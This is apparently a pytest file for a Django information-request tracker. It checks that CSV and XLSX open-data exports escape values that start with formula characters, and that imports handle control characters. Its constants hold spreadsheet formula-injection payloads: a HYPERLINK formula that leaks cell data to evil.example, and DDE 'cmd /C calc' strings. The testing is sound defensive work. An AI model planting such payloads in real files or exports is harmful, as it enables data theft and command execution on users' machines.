"""The open data opens in a spreadsheet with no formula, wherever a formula-like text came from:
typed by staff, imported from a file, or cited by a body as the ground of its refusal."""

import csv
import io
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.db.models import F
from django.test import Client
from openpyxl import load_workbook

from requests_tracker.accounts.models import User
from requests_tracker.bodies.models import PublicBody
from requests_tracker.information_requests.services import record_event
from requests_tracker.information_requests.status import EventKind
from requests_tracker.monitoring.importing import import_file
from requests_tracker.monitoring.models import Block, Category, ReviewState, Violation
from requests_tracker.monitoring.sweep import sweep_deadlines
from tests.factories import make_request

ALMATY = ZoneInfo("Asia/Almaty")
pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def csv_rows(client: Client) -> list[dict[str, str]]:
    response = client.get("/open-data/violations.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(client: Client) -> list[dict[str, tuple[object, str]]]:
    """Each cell as (value, openpyxl data type): "s" is a string, "f" would be a formula."""
    response = client.get("/open-data/violations.xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    header, *lines = list(sheet.iter_rows())
    names = [str(cell.value) for cell in header]
    return [
        {name: (cell.value, cell.data_type) for name, cell in zip(names, line, strict=True)}
        for line in lines
    ]


def test_text_fields_starting_with_formula_characters_open_as_text(client: Client) -> None:
    body = PublicBody.objects.get(slug="police-kz-75")
    Violation.objects.create(
        block=Block.B,
        category=Category.REFUSAL,
        public_body=body,
        region=body.region,
        occurred_on=date(2026, 4, 2),
        review_state=ReviewState.PUBLISHED,
        public_description=HYPERLINK,  # the open data's description is the public one
        legal_ground_cited=DDE,
        article=MINUS,
        victim_outlet=AT_SUM,
        victim_consents_to_publication=True,
    )

    [row] = csv_rows(client)
    [cells] = xlsx_rows(client)

    assert (row["description"], row["legal_ground_cited"], row["article"]) == (
        "'" + HYPERLINK,
        "'" + DDE,
        "'" + MINUS,
    )
    assert row["victim_outlet"] == "'" + AT_SUM
    assert row["body_slug"] == "police-kz-75"  # other text is left as it is
    assert row["occurred_on"] == "2026-04-02"
    # The workbook types each cell: the texts are strings, unchanged, and nothing is a formula.
    assert cells["description"] == (HYPERLINK, "s")
    assert cells["legal_ground_cited"] == (DDE, "s")
    assert cells["article"] == (MINUS, "s")
    assert cells["victim_outlet"] == (AT_SUM, "s")
    assert all(data_type != "f" for _value, data_type in cells.values())


def test_a_control_character_in_a_text_does_not_stop_the_workbook(client: Client) -> None:
    body = PublicBody.objects.get(slug="police-kz-75")
    Violation.objects.create(
        block=Block.B,
        category=Category.REFUSAL,
        public_body=body,
        region=body.region,
        occurred_on=date(2026, 4, 2),
        review_state=ReviewState.PUBLISHED,
        public_description="Отказ\x01 по\tстатье\x1b 201",
    )

    [cells] = xlsx_rows(client)
    [row] = csv_rows(client)

    assert cells["description"] == ("Отказ\ufffd по\tстатье\ufffd 201", "s")
    assert row["description"] == "Отказ\x01 по\tстатье\x1b 201"  # CSV holds any text


def test_a_formula_in_an_imported_file_reaches_the_csv_as_text(
    tmp_path: Path, client: Client
) -> None:
    path = tmp_path / "violations.csv"
    path.write_text(
        "block,category,occurred_on,body,description,legal_ground_cited\n"
        f'B,refusal,2026-03-05,police-kz-75,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",{AT_SUM}\n',
        encoding="utf-8",
    )
    report = import_file(path_or_file=path, user=None, confirm=False)
    assert (report.rows, report.problems) == (1, [])
    # Staff take the imported description as the public one, and publish.
    Violation.objects.update(
        review_state=ReviewState.PUBLISHED, public_description=F("description")
    )

    [row] = csv_rows(client)

    assert (row["description"], row["legal_ground_cited"]) == ("'" + HYPERLINK, "'" + AT_SUM)


def test_a_refusals_ground_reaches_the_csv_as_text(client: Client) -> None:
    information_request = make_request(created_at=datetime(2026, 3, 2, 10, tzinfo=ALMATY))
    for kind, day, data in (
        (EventKind.SUBMITTED, 2, {}),
        (EventKind.REFUSED, 5, {"ground": DDE}),
    ):
        record_event(
            information_request=information_request,
            kind=kind,
            occurred_at=datetime(2026, 3, day, 11, tzinfo=ALMATY),
            recorded_by=information_request.requester,
            data=data,
        )
    sweep_deadlines(now=datetime(2026, 3, 5, 12, tzinfo=ALMATY))
    Violation.objects.update(review_state=ReviewState.PUBLISHED)

    [row] = csv_rows(client)

    assert row["legal_ground_cited"] == "'" + DDE


def test_the_import_refuses_a_nul_character_in_a_text(tmp_path: Path, ngo_staff: User) -> None:
    path = tmp_path / "violations.csv"
    path.write_text(
        "block,category,occurred_on,body,description\nB,refusal,2026-03-05,police-kz-75,a\x00b\n",
        encoding="utf-8",
    )

    report = import_file(path_or_file=path, user=ngo_staff, confirm=False)

    assert [(p.row, p.column) for p in report.problems] == [(2, "description")]
    assert Violation.objects.count() == 0
